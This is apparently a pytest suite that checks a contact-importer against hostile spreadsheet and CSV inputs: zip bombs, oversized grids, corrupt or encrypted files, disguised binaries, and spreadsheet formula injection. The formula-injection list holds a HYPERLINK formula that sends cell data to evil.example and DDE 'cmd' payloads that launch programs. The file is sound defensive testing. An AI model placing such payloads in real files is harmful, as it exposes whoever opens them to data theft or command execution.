"""Hostile and broken inputs: each gets a clear, specific answer (or works), never a crash.

Files that could make a reader allocate without bound are read in a child process whose
address space is capped (tests/helpers/capped_child.py), and its peak memory is checked
against the file's real content. Everything goes through the public entry points:
open_source + read_preview/iter_data_rows, run_check, the reports, `contact-importer check`.
"""

from __future__ import annotations

import collections
import csv
import re
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from importer.check.issues import RowStatus
from importer.check.result import CheckResult
from importer.check.run import run_check
from importer.choices import ImportChoices
from importer.errors import (
    CorruptFileError,
    EmptyFileError,
    UnsupportedFormatError,
)
from importer.mapping.model import ColumnChoice, Mapping, Role
from importer.report.cells import is_formula_like
from importer.report.write import write_attention_file, write_report
from importer.sources import open_source
from importer.sources.table import iter_data_rows, read_preview
from tests.helpers.capped_child import survey_in_child
from tests.helpers.hostile_files import (
    SHEET_END,
    SHEET_START,
    inline_cell,
    ods_text_row,
    write_encrypted_xlsx,
    write_ods,
    write_raw_xlsx,
    write_xls,
    write_xlsx_bomb,
    xls_record,
)
from tests.helpers.make_files import write_xlsx

pytestmark = pytest.mark.timeout(60)

CAP = 1024**3
"""Address-space cap of the child reading risky files (1 GiB)."""
REFUSAL_MIB = 120
"""Peak resident memory allowed for refusing a file: the interpreter and libraries only."""
MAPPING = Mapping(
    (
        ColumnChoice(0, "Name", Role.NAME),
        ColumnChoice(1, "Phone", Role.PHONE),
        ColumnChoice(2, "Note", Role.EXTRA, "note"),
    )
)
HEADER_AND_ROW = [(0, 0, "Name"), (0, 1, "Phone"), (1, 0, "Ann"), (1, 1, 2022340123.0)]


def surveyed(path: Path) -> dict[str, Any]:
    """What a user's first step gets from ``path``, read in its own capped child."""
    return survey_in_child([path], cap=CAP, timeout=50)[path.name]


def assert_refused(result: dict[str, Any], error: str, *phrases: str) -> None:
    assert result["outcome"] == error, result
    assert result["message"].startswith('"'), result
    for phrase in phrases:
        assert phrase in result["message"]
    assert result["peak_mib"] < REFUSAL_MIB, result


# --- encrypted, truncated, corrupt ------------------------------------------------------------


def test_password_protected_xlsx_says_remove_the_password(tmp_path: Path) -> None:
    result = surveyed(write_encrypted_xlsx(tmp_path / "locked.xlsx"))
    assert_refused(result, "EncryptedFileError", "protected with a password", "Remove the password")


@pytest.mark.parametrize("keep", [0.1, 0.5, 0.95])
def test_truncated_xlsx_is_damaged_or_incomplete(tmp_path: Path, keep: float) -> None:
    whole = write_xlsx(tmp_path / "whole.xlsx", [["Name", "Phone"], ["Ann", "2022340123"]])
    data = whole.read_bytes()
    cut = tmp_path / "cut.xlsx"
    cut.write_bytes(data[: int(len(data) * keep)])
    with pytest.raises(CorruptFileError, match="not copied completely"):
        open_source(cut)


def test_zip_with_scrambled_bytes_is_damaged(tmp_path: Path) -> None:
    whole = write_xlsx(tmp_path / "whole.xlsx", [["Name", "Phone"], ["Ann", "2022340123"]])
    data = bytearray(whole.read_bytes())
    for position in range(200, len(data) - 200, 7):
        data[position] ^= 0x55
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(bytes(data))
    with pytest.raises(CorruptFileError, match=r'"broken\.xlsx": The file is damaged'):
        open_source(broken)


# --- zip bombs and huge grids (capped child) --------------------------------------------------


def test_zip_bomb_is_refused_before_inflating(tmp_path: Path) -> None:
    bomb = write_xlsx_bomb(tmp_path / "bomb.xlsx", 4 * 1024**3)
    assert bomb.stat().st_size < 5 * 1024**2
    result = surveyed(bomb)
    assert_refused(result, "ResourceLimitError", "more than 2 GB", "crafted to exhaust memory")


def test_zip_bomb_lying_about_its_size_is_damaged(tmp_path: Path) -> None:
    bomb = write_xlsx_bomb(tmp_path / "liar.xlsx", 4 * 1024**3, declared_size=1024**2)
    result = surveyed(bomb)
    assert_refused(result, "CorruptFileError", "damaged")


def test_compressible_sheet_below_the_bomb_limits_is_read(tmp_path: Path) -> None:
    path = write_xlsx_bomb(tmp_path / "big_cell.xlsx", 30 * 1024**2)
    result = surveyed(path)
    assert result["outcome"] == "read", result
    assert result["peak_mib"] < 400, result


def test_sheet_with_16384_columns_is_read(tmp_path: Path) -> None:
    from importer.columns import column_letter

    rows = [
        b'<row r="%d">' % row
        + b"".join(inline_cell(f"{column_letter(c)}{row}", f"{text}{c}") for c in range(16384))
        + b"</row>"
        for row, text in ((1, "Title"), (2, "value"))
    ]
    path = write_raw_xlsx(tmp_path / "wide.xlsx", SHEET_START + b"".join(rows) + SHEET_END)
    result = surveyed(path)
    assert (result["outcome"], result["width"], result["rows"]) == ("read", 16384, 2), result
    assert result["peak_mib"] < REFUSAL_MIB, result


def test_xlsx_cells_far_apart_are_refused(tmp_path: Path) -> None:
    sheet = (
        SHEET_START
        + b'<row r="1">'
        + inline_cell("A1", "Name")
        + b'</row><row r="1048576">'
        + inline_cell("XFD1048576", "x")
        + b"</row>"
        + SHEET_END
    )
    result = surveyed(write_raw_xlsx(tmp_path / "far.xlsx", sheet))
    assert_refused(result, "ResourceLimitError", "1,048,576 rows × 16,384 columns")


@pytest.mark.parametrize(
    ("cells", "extra", "spans"),
    [
        ([*HEADER_AND_ROW, (65535, 65535, 1.0)], b"", "65,536 rows × 65,536 columns"),
        ([*HEADER_AND_ROW, (65535, 255, 1.0)], b"", "65,536 rows × 256 columns"),
        (
            HEADER_AND_ROW,
            xls_record(0x0200, struct.pack("<IIHHH", 0, 0xFFFFFFF0, 0, 0xFFFF, 0)),
            "4,294,967,280 rows",
        ),
    ],
    ids=["cells-far-apart", "full-biff8-grid", "dimensions-record"],
)
def test_xls_grid_calamine_would_allocate_whole_is_refused(
    tmp_path: Path, cells: list[tuple[int, int, Any]], extra: bytes, spans: str
) -> None:
    result = surveyed(write_xls(tmp_path / "grid.xls", cells, extra=extra))
    assert_refused(result, "ResourceLimitError", 'sheet "Sheet1"', spans, "save as .xlsx")


def test_xls_blank_cells_far_away_do_not_count(tmp_path: Path) -> None:
    blank = xls_record(0x0201, struct.pack("<HHH", 65535, 255, 0))
    path = write_xls(tmp_path / "styled.xls", HEADER_AND_ROW, extra=blank)
    with open_source(path) as source:
        assert list(source.iter_rows()) == [(1, ["Name", "Phone"]), (2, ["Ann", 2022340123])]


@pytest.mark.parametrize(
    ("repeat_row", "repeat_cell", "spans"),
    [
        (1_048_576, 16_384, "1,048,577 rows × 16,385 columns"),
        (6_000, 16_384, "6,001 rows × 16,385 columns"),
        (1, 2**31 - 1, "2 rows × 2,147,483,648 columns"),
    ],
)
def test_ods_repeats_expanding_past_the_limit_are_refused(
    tmp_path: Path, repeat_row: int, repeat_cell: int, spans: str
) -> None:
    rows = ods_text_row(["Name", "Phone"]) + ods_text_row(
        ["Ann", "2022340123"], repeat_row=repeat_row, repeat_last_cell=repeat_cell
    )
    result = surveyed(write_ods(tmp_path / "repeats.ods", rows))
    assert_refused(result, "ResourceLimitError", "repeated rows and cells", spans)


def test_ods_row_repeated_to_the_sheet_end_is_read(tmp_path: Path) -> None:
    rows = ods_text_row(["Name", "Phone"]) + ods_text_row(["Ann", "2022340123"], 1_048_575)
    result = surveyed(write_ods(tmp_path / "tall.ods", rows))
    assert (result["outcome"], result["rows"]) == ("read", 1_048_576), result


def test_ods_trailing_empty_repeats_cost_nothing(tmp_path: Path) -> None:
    empty = (
        '<table:table-row table:number-rows-repeated="1048570">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    rows = ods_text_row(["Name", "Phone"]) + ods_text_row(["Ann", "2022340123"]) + empty
    with open_source(write_ods(tmp_path / "libreoffice.ods", rows)) as source:
        assert [number for number, _ in source.iter_rows()] == [1, 2]


def write_one_line_of_columns(path: Path, megabytes: int) -> Path:
    """One line of "a," repeated: ``megabytes`` MiB holding half as many million columns."""
    piece = "a," * (512 * 1024)
    with path.open("w", encoding="ascii", newline="") as handle:
        for _ in range(megabytes):
            handle.write(piece)
        handle.write("\n")
    return path


@pytest.mark.parametrize("megabytes", [10, 64])
def test_a_csv_line_of_millions_of_columns_is_refused_from_its_start(
    tmp_path: Path, megabytes: int
) -> None:
    """Refused once the first MiB of the line is split: a 64 MiB line read whole would take
    far more than the refusal's memory (it took 27 s for 2 MB and 2.3 GB for 10 MB)."""
    result = surveyed(write_one_line_of_columns(tmp_path / "wide.csv", megabytes))
    assert_refused(
        result, "ResourceLimitError", '"wide.csv", row 1:', "more than 16,384 columns", "XFD"
    )


def test_xlsx_row_past_column_xfd_is_refused(tmp_path: Path) -> None:
    unreferenced = b'<c t="inlineStr"><is><t>a</t></is></c>' * 20_000
    sheets = {
        "unreferenced.xlsx": (b'<row r="1">' + unreferenced + b"</row>", "20,000 columns"),
        "beyond.xlsx": (b'<row r="1">' + inline_cell("ZZZ1", "x") + b"</row>", "18,278 columns"),
    }
    for name, (row, columns) in sheets.items():
        result = surveyed(write_raw_xlsx(tmp_path / name, SHEET_START + row + SHEET_END))
        assert_refused(result, "ResourceLimitError", 'sheet "Sheet1"', columns, "column XFD")


def test_ods_and_xls_rows_past_column_xfd_are_refused(tmp_path: Path) -> None:
    rows = ods_text_row(["Name", "Phone"]) + ods_text_row(["a"], repeat_last_cell=100_000)
    result = surveyed(write_ods(tmp_path / "wide.ods", rows))
    assert_refused(result, "ResourceLimitError", "100,000 columns", "column XFD")
    result = surveyed(write_xls(tmp_path / "wide.xls", [*HEADER_AND_ROW, (1, 20_000, 1.0)]))
    assert_refused(result, "ResourceLimitError", 'sheet "Sheet1"', "20,001 columns", "XFD")


def test_csv_over_a_million_rows_streams_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "million.csv"
    block = b"Ann Lee,2022340123,a note\r\n" * 65_536
    with path.open("wb") as handle:
        handle.write(b"Name,Phone,Note\r\n")
        for _ in range(16):
            handle.write(block)
        handle.write(b"Last Row,2022340199,end\r\n")
    result = surveyed(path)
    assert (result["outcome"], result["rows"]) == ("read", 1_048_578), result
    assert result["peak_mib"] < REFUSAL_MIB, result
    with open_source(path) as source:
        preview = read_preview(source)
        rows = iter_data_rows(source, preview.sheet, preview.header_row)
        last = collections.deque(rows, maxlen=1)
    assert list(last) == [(1_048_578, ["Last Row", "2022340199", "end"])]


# --- not spreadsheets -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("photo.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "a PNG image"),
        ("photo.xlsx", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4, "a JPEG image"),
        ("scan.csv", b"%PDF-1.4\n" + bytes(range(256)) * 4, "a PDF document"),
        ("scan.xlsx", b"%PDF-1.7\n" + bytes(range(256)) * 4, "a PDF document"),
        ("noise.csv", bytes((i * 7919) % 256 for i in range(5000)), "a binary file"),
    ],
)
def test_binary_files_renamed_as_spreadsheets_are_named(
    tmp_path: Path, name: str, content: bytes, what: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(UnsupportedFormatError, match=f'"{name}": This file is {what}'):
        open_source(path)


def test_empty_workbook_and_empty_files(tmp_path: Path) -> None:
    import xlsxwriter

    book = xlsxwriter.Workbook(str(tmp_path / "empty.xlsx"))
    book.add_worksheet()
    book.close()
    (tmp_path / "zero.csv").write_bytes(b"")
    (tmp_path / "blank.csv").write_bytes(b"\r\n\r\n  \r\n,,\r\n")
    messages = {
        "empty.xlsx": "No sheet of this workbook holds any data",
        "zero.csv": "The file is empty (0 bytes)",
        "blank.csv": "The file holds only blank lines",
    }
    for name, message in messages.items():
        with pytest.raises(EmptyFileError, match=f'"{name}": {re.escape(message)}'):
            run_check(ImportChoices(tmp_path / name, mapping=MAPPING))


@pytest.mark.parametrize("name", ["header.xlsx", "header.csv"])
def test_sheet_with_only_a_header_checks_zero_rows(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    if name.endswith(".xlsx"):
        write_xlsx(path, [["Name", "Phone", "Note"]])
    else:
        path.write_bytes(b"Name,Phone,Note\r\n")
    result = run_check(ImportChoices(path, mapping=MAPPING))
    assert (len(result), result.headers) == (0, ["Name", "Phone", "Note"])


# --- odd content ------------------------------------------------------------------------------


def test_stray_nul_bytes_in_csv_are_dropped(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    rows = b"".join(b"Person %d,20255%05d\r\n" % (i, i) for i in range(100))
    path.write_bytes(b"Name,Phone\r\nA\x00nn,2022340123\r\n\x00\r\n" + rows + b"B\x00b,1\r\n")
    with open_source(path) as source:
        values = [values for _, values in source.iter_rows()]
    assert values[:2] == [["Name", "Phone"], ["Ann", "2022340123"]]
    assert (len(values), values[-1]) == (103, ["Bb", "1"])


def test_text_that_is_mostly_nul_bytes_is_not_a_csv(tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"Name,Phone\r\n" + b"\x00" * 500)
    with pytest.raises(UnsupportedFormatError, match="a binary file of an unknown kind"):
        open_source(path)


def test_control_characters_in_xlsx_names_do_not_reach_the_record(tmp_path: Path) -> None:
    raw_cell = b'<c r="A2" t="inlineStr"><is><t>A\x01nn\x0bLee_x0000_</t></is></c>'
    sheet = (
        SHEET_START
        + b'<row r="1">'
        + inline_cell("A1", "Name")
        + inline_cell("B1", "Phone")
        + b'</row><row r="2">'
        + raw_cell
        + inline_cell("B2", "2022340123")
        + b"</row>"
        + SHEET_END
    )
    result = run_check(
        ImportChoices(write_raw_xlsx(tmp_path / "ctrl.xlsx", sheet), mapping=MAPPING)
    )
    assert result.names == ["A nn Lee"]
    assert result.record(0)["name"] == "A nn Lee"


def test_invalid_xml_character_reference_is_a_damaged_sheet(tmp_path: Path) -> None:
    sheet = SHEET_START + b'<row r="1"><c r="A1" t="inlineStr"><is><t>a&#0;b</t></is></c></row>'
    path = write_raw_xlsx(tmp_path / "nul_ref.xlsx", sheet + SHEET_END)
    with (
        open_source(path) as source,
        pytest.raises(CorruptFileError, match='sheet "Sheet1": This sheet is damaged'),
    ):
        read_preview(source)


def test_cell_of_32767_characters_is_kept_whole(tmp_path: Path) -> None:
    long_name = "N" * 32_766 + "!"
    path = write_xlsx(tmp_path / "long.xlsx", [["Name", "Phone"], [long_name, "2022340123"]])
    result = run_check(ImportChoices(path, mapping=MAPPING))
    assert result.names == [long_name]
    assert [issue.code for issue in result.issues[0]] == ["long_name"]
    report = tmp_path / "report.xlsx"
    write_report(report, result, source_rows(result))
    sheet = openpyxl.load_workbook(report).active
    assert sheet.cell(2, 4).value == long_name


def test_formulas_with_and_without_cached_values(tmp_path: Path) -> None:
    sheet = (
        SHEET_START
        + b'<row r="1">'
        + inline_cell("A1", "Name")
        + inline_cell("B1", "Phone")
        + b'</row><row r="2"><c r="A2" t="str"><f>"Ann"&amp;" Lee"</f><v>Ann Lee</v></c>'
        + b'<c r="B2"><f>2022340000+123</f><v>2022340123</v></c></row>'
        + b'<row r="3"><c r="A3" t="str"><f>"Bob"</f></c><c r="B3"><f>2022340000+124</f></c>'
        + inline_cell("C3", "no cached values")
        + b'</row><row r="4"><c r="A4" t="str"><f>"Cid"</f><v></v></c>'
        + b'<c r="B4"><f>2022340000+125</f><v>2022340125</v></c></row>'
        + SHEET_END
    )
    result = run_check(
        ImportChoices(write_raw_xlsx(tmp_path / "formulas.xlsx", sheet), mapping=MAPPING)
    )
    assert result.names == ["Ann Lee", None, None]
    assert result.phones[0] == result.record(0)["phone_number"] == "+12022340123"
    assert result.status[1] == RowStatus.INVALID.value
    assert result.phones[2] == "+12022340125"


# --- formula injection ------------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "=1+1",
]


def injection_result(tmp_path: Path) -> CheckResult:
    rows = [["Name", "Phone", "Note"]]
    rows += [[payload, f"202234{1000 + i}", payload] for i, payload in enumerate(PAYLOADS)]
    rows += [["Eve", payload, payload] for payload in PAYLOADS[:3]]
    return run_check(ImportChoices(write_xlsx(tmp_path / "payloads.xlsx", rows), mapping=MAPPING))


def source_rows(result: CheckResult) -> Any:
    with open_source(result.path) as source:
        yield from iter_data_rows(source, result.sheet, result.header_row)


def test_payloads_in_names_never_become_formulas_in_xlsx_files(tmp_path: Path) -> None:
    result = injection_result(tmp_path)
    report, attention = tmp_path / "report.xlsx", tmp_path / "fix.xlsx"
    write_report(report, result, source_rows(result))
    assert write_attention_file(attention, result, source_rows(result)) == 3
    for path in (report, attention):
        texts = []
        for row in openpyxl.load_workbook(path).active.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                texts.append(cell.value)
        assert set(PAYLOADS[:3]) <= set(texts), path.name


def test_payloads_in_names_are_neutralized_in_csv_reports(tmp_path: Path) -> None:
    result = injection_result(tmp_path)
    report = tmp_path / "report.csv"
    write_report(report, result, source_rows(result))
    with report.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    assert not [field for field in fields if is_formula_like(field)]
    assert "'" + PAYLOADS[0] in fields


def test_payload_names_reach_the_record_unchanged(tmp_path: Path) -> None:
    result = injection_result(tmp_path)
    assert result.record(0)["name"] == PAYLOADS[0]


# --- text as people write it ------------------------------------------------------------------

NAMES = [
    "עברית כהן",
    "محمد العلي",
    "😀 Smile 👍🏽 👨‍👩‍👧",
    "e\u0301cole Zoe\u0308",
    "Zoë (NFC)",
    "\u202egnp.exe",
    "Ǆemal ß",
]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_right_to_left_emoji_and_combining_names_are_kept_exactly(
    tmp_path: Path, suffix: str
) -> None:
    rows = [["Name", "Phone"], *([name, f"202234{2000 + i}"] for i, name in enumerate(NAMES))]
    path = tmp_path / f"names{suffix}"
    if suffix == ".xlsx":
        write_xlsx(path, rows)
    else:
        with path.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows(rows)
    result = run_check(ImportChoices(path, mapping=MAPPING))
    assert result.names == NAMES
    report = tmp_path / "report.csv"
    write_report(report, result, source_rows(result))
    assert all(name in report.read_text(encoding="utf-8-sig") for name in NAMES)


def test_mixed_line_endings_split_into_the_right_rows(tmp_path: Path) -> None:
    path = tmp_path / "eol.csv"
    path.write_bytes(
        b'Name,Phone\r\nAnn,2022340123\nBob,2022340124\rCid,2022340125\r\n"Dee\nDuo",2022340126'
    )
    with open_source(path) as source:
        rows = [values for _, values in source.iter_rows()]
    assert rows[1:] == [
        ["Ann", "2022340123"],
        ["Bob", "2022340124"],
        ["Cid", "2022340125"],
        ["Dee\nDuo", "2022340126"],
    ]


def test_csv_whose_encoding_changes_midway_keeps_both_parts(tmp_path: Path) -> None:
    path = tmp_path / "appended.csv"
    utf8 = "Name,Phone\r\n" + "".join(f"Zoë {i},20255{i:05d}\r\n" for i in range(30_000))
    path.write_bytes(utf8.encode() + "René Ærø,2022349999\r\n".encode("cp1252"))
    with open_source(path) as source:
        rows = list(source.iter_rows())
    assert rows[1][1][0] == "Zoë 0"
    assert rows[-1][1] == ["René Ærø", "2022349999"]


# --- the command line -------------------------------------------------------------------------


def cli_check(path: Path) -> subprocess.CompletedProcess[str]:
    command = Path(sys.executable).with_name("contact-importer")
    return subprocess.run(
        [str(command), "check", str(path)],
        capture_output=True,
        text=True,
        timeout=50,
        check=False,
    )


def test_cli_answers_hostile_files_with_exit_2_and_a_message(tmp_path: Path) -> None:
    png = tmp_path / "photo.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    files = [
        write_xlsx_bomb(tmp_path / "bomb.xlsx", 4 * 1024**3),
        write_encrypted_xlsx(tmp_path / "locked.xlsx"),
        write_xls(tmp_path / "far.xls", [*HEADER_AND_ROW, (65535, 65535, 1.0)]),
        write_one_line_of_columns(tmp_path / "wide.csv", 10),
        png,
    ]
    for path in files:
        done = cli_check(path)
        assert done.returncode == 2, (path.name, done.stderr)
        assert f'"{path.name}"' in done.stderr
        assert "Traceback" not in done.stderr + done.stdout
